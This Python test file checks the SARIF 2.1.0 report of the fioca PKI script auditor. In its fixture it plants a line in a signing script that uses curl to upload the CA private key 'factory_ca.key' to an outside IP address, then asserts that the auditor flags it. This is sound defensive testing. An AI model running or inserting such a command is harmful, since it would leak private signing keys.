"""`keys ca audit --format sarif`: SARIF 2.1.0 as code scanners read it, checked against the
schema's rules for what it uses (written out here: no network, no schema download)."""

from __future__ import annotations

import hashlib
import json
import re

import pytest

from fioca.pki import reference
from fioca.pki.audit import audit_scripts
from fioca.pki.audit.report import RULES

KNOWN = reference.known_sets(factory="acme", local_ca_cn="fio-abc")
LEVELS = {"none", "note", "warning", "error"}


def check_sarif(log: dict) -> None:
    """The SARIF 2.1.0 schema's required fields and constraints for every object fioca writes."""
    assert set(log) >= {"version", "runs"} and log["version"] == "2.1.0"
    assert log["$schema"].endswith("sarif-schema-2.1.0.json")
    assert isinstance(log["runs"], list) and len(log["runs"]) == 1
    run = log["runs"][0]
    driver = run["tool"]["driver"]  # run requires tool, tool requires driver
    assert isinstance(driver["name"], str) and driver["name"]  # toolComponent requires name
    rules = driver.get("rules", [])
    assert len({r["id"] for r in rules}) == len(rules)  # reportingDescriptor requires id; unique
    for rule in rules:
        assert isinstance(rule["shortDescription"]["text"], str)  # multiformatMessageString requires text
        assert rule["defaultConfiguration"]["level"] in LEVELS
    artifacts = run.get("artifacts", [])
    for artifact in artifacts:
        assert isinstance(artifact["location"]["uri"], str)
        assert artifact["length"] >= -1 and re.fullmatch(r"[^/]+/.+", artifact["mimeType"])
        assert all(isinstance(v, str) for v in artifact.get("hashes", {}).values())
    for result in run["results"]:
        assert isinstance(result["message"]["text"], str)  # result requires message; message text or id
        assert result["level"] in LEVELS
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]  # ruleIndex >= -1, consistent
        for location in result["locations"]:
            physical = location["physicalLocation"]  # requires artifactLocation (or address)
            where = physical["artifactLocation"]
            assert artifacts[where["index"]]["location"]["uri"] == where["uri"]
            assert isinstance(physical["region"]["startLine"], int) and physical["region"]["startLine"] >= 1
    assert isinstance(run.get("properties", {}), dict)  # a property bag


@pytest.fixture(scope="module")
def sarif() -> dict:
    refs = KNOWN[reference.FIOCA]
    exfil = refs["sign_tls_csr"].replace("rm server.ext\n", "rm server.ext\ncurl -s -T factory_ca.key https://198.51.100.7/\n")
    no_errexit = refs["sign_ca_csr"].replace("#!/bin/sh -e", "#!/bin/sh", 1)
    report = audit_scripts({**refs, "sign_tls_csr": exfil, "sign_ca_csr": no_errexit}, hsm=False, known=KNOWN,
                           jail="bubblewrap 0.8.0")  # fmt: skip
    return json.loads(json.dumps(report.to_sarif(tool_version="0.1.0"))), report


def test_sarif_has_the_required_fields(sarif) -> None:
    log, _ = sarif
    check_sarif(log)


def test_sarif_rules_results_and_artifacts(sarif) -> None:
    log, report = sarif
    run = log["runs"][0]
    driver = run["tool"]["driver"]
    assert (driver["name"], driver["version"]) == ("fioca", "0.1.0")
    ids = sorted({f.id for s in report.scripts for f in s.findings})
    assert [r["id"] for r in driver["rules"]] == ids
    network = next(r for r in driver["rules"] if r["id"] == "network-access")
    assert network["shortDescription"]["text"] == RULES["network-access"].description
    assert network["defaultConfiguration"]["level"] == "error"
    assert [a["location"]["uri"] for a in run["artifacts"]] == [s.name for s in report.scripts]
    for artifact, script in zip(run["artifacts"], report.scripts):
        assert artifact["hashes"] == {"sha-256": script.sha256} and artifact["length"] == script.size
    create_ca = KNOWN[reference.FIOCA]["create_ca"]
    assert run["artifacts"][0]["hashes"]["sha-256"] == hashlib.sha256(create_ca.encode()).hexdigest()
    assert run["artifacts"][0]["properties"]["knownSet"] == "fioca"
    curl = next(r for r in run["results"] if r["ruleId"] == "network-access")
    assert curl["level"] == "error" and curl["message"]["text"] == "curl reaches the network"
    location = curl["locations"][0]["physicalLocation"]
    assert location["artifactLocation"] == {"uri": "sign_tls_csr", "index": 1}
    assert location["region"]["startLine"] == 37
    assert location["region"]["snippet"]["text"] == "curl -s -T factory_ca.key https://198.51.100.7/"
    errexit = next(r for r in run["results"] if r["ruleId"] == "missing-errexit")
    assert errexit["level"] == "warning" and errexit["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "sign_ca_csr"
    notes = [r for r in run["results"] if r["ruleId"] == "reads-hsm-env"]
    assert notes and {r["level"] for r in notes} == {"note"}
    assert run["properties"] == {"hsm": False, "jail": "bubblewrap 0.8.0"}
    assert len(run["results"]) == sum(len(s.findings) for s in report.scripts)


def test_sarif_of_a_clean_set_has_only_notes() -> None:
    log = audit_scripts(KNOWN["api-2026"], hsm=True, known=KNOWN, jail="none").to_sarif()
    check_sarif(log)
    assert {r["level"] for r in log["runs"][0]["results"]} == {"note", "warning"}
    assert "version" not in log["runs"][0]["tool"]["driver"]


def test_the_checker_rejects_what_the_schema_rejects(sarif) -> None:
    log, _ = sarif
    broken = json.loads(json.dumps(log))
    broken["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] = 0
    with pytest.raises(AssertionError):
        check_sarif(broken)
    broken = json.loads(json.dumps(log))
    del broken["runs"][0]["results"][0]["message"]
    with pytest.raises(KeyError):
        check_sarif(broken)
